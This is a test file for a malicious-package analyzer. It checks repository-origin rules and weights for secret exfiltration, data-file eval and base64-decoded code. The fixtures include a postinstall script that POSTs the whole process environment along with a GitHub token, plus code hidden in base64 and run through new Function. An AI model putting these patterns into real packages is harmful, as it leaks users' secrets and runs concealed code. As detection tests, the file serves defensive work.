import { describe, expect, test } from 'vitest';
import { analyzePackage } from '../../../src/analyze/index.js';
import { type Manifest, readManifest } from '../../../src/analyze/manifest/index.js';
import type { Taint } from '../../../src/analyze/observation.js';
import { isFrom } from '../../../src/analyze/rules/origin.js';
import { ownRules, packageOf } from '../in-memory.js';

const from = (detail: string, line = 1): Taint => ({
  source: 'net.response',
  detail,
  file: 'a.js',
  line,
  through: [],
  steps: [],
});
const manifestOf = (more: Record<string, unknown>): Manifest => readManifest(packageOf({}, more)).manifest;
const acme = manifestOf({ repository: 'git+https://github.com/acme/tool.git' });
const ofAcme = (...taints: Taint[]): boolean => isFrom(['own'], taints, acme, ownRules());

describe('what comes from the repository that the package names', () => {
  test('is a file of its owner, as an address or as the fields of a request say', () => {
    expect(ofAcme(from('https://github.com/acme/tool/releases/download/v1/x'))).toBe(true);
    expect(ofAcme(from('github.com/acme/other/releases/download/v1/x'))).toBe(true);
    expect(ofAcme(from('https://github.com/acme2/tool/releases/download/v1/x'))).toBe(false);
    expect(ofAcme(from('https://acme.example/tool'))).toBe(false);
  });

  test('stays so where its answer leads on, and not where something else comes along', () => {
    expect(ofAcme(from('github.com/acme/tool/x'), from('\uFFFC\uFFFC'))).toBe(true);
    expect(ofAcme(from('github.com/acme/tool/x'), from('\uFFFC\uFFFC', 2))).toBe(false);
    expect(ofAcme(from('github.com/acme/tool/x'), from('https://a.example/x'))).toBe(false);
    expect(ofAcme(from('\uFFFC'))).toBe(false);
  });

  test('a list of programs says who publishes where', () => {
    const isProgram = (detail: string): boolean => isFrom(['programs'], [from(detail)], acme, ownRules());
    expect(isProgram('https://github.com/mozilla/geckodriver/releases/download/v1/x')).toBe(true);
    expect(isProgram('https://fastdl.mongodb.org/x.tgz')).toBe(true);
    expect(isProgram('https://github.com/mozilla-builds/geckodriver/x')).toBe(false);
    expect(isProgram('https://fastdl.mongodb.org.a.example/x.tgz')).toBe(false);
  });
});

const heaviest = (rule: string, text: string, more = {}): number => {
  const verdict = analyzePackage(
    packageOf({ 'a.js': text }, { scripts: { postinstall: 'node a.js' }, ...more }),
    ownRules(),
  );
  return Math.max(0, ...verdict.findings.filter((each) => each.rule === rule).map(({ weight }) => weight));
};

test('the token of the code host asks it about a repository, and writes nothing', () => {
  const asked = (path: string, more = ''): number =>
    heaviest(
      'secret-env-exfiltration',
      `fetch('https://api.github.com/${path}', { ${more} headers: { Authorization: 'Bearer ' + process.env.GITHUB_TOKEN } });`,
    );
  expect(asked('repos/acme/tool/pulls/12')).toBeLessThan(20);
  expect(asked('repos/acme/tool/pulls/12', "method: 'POST', body: JSON.stringify(process.env),")).toBeGreaterThan(80);
  expect(asked('user/repos')).toBeGreaterThan(80);
});

test('a message to a child of one’s own is no code from a file', () => {
  const text = (to: string): string => `const child = require('child_process').fork(__dirname + '/b.js');
${to}(require('fs').readFileSync(__dirname + '/data.json', 'utf8'));`;
  expect(heaviest('data-file-code', text('child.send'))).toBe(0);
  expect(heaviest('data-file-code', text('eval'))).toBeGreaterThan(80);
});

test('code whose lines stand readable in the file hides nothing', () => {
  const lines = [
    "const load = require('child_process');",
    'const folder = process.cwd();',
    'const started = load.spawn(folder);',
    'started.on("exit", console.log);',
    'const waiting = started.pid > 0;',
    'module.exports = { started, folder };',
  ];
  const readable = `const text = \`${lines.join('\n')}\`.replace('folder);', 'folder, []);');\nmodule.exports = new Function(text);`;
  const hidden = `const text = Buffer.from('${Buffer.from(lines.join('\n')).toString('base64')}', 'base64').toString();\nmodule.exports = new Function(text);`;
  expect(heaviest('decoded-code', hidden)).toBeGreaterThan(80);
  expect(heaviest('decoded-code', readable)).toBeLessThan(40);
});
